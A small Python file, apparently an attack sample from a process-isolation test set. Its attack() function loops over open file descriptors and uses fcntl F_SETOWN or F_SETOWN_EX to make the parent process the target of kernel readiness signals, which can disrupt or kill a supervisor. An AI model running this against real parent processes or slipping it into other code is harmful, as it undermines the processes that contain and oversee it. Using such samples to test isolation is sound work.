"""Names the parent as who is signalled when an open file is ready: a signal sent by the kernel."""

import contextlib
import fcntl
import os
import struct


def attack():
    SET_OWNER_TO, PROCESS = 15, 1
    for number in range(200):
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, fcntl.F_SETOWN, os.getppid())
            return True
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, SET_OWNER_TO, struct.pack("2i", PROCESS, os.getppid()))
            return True
    return False
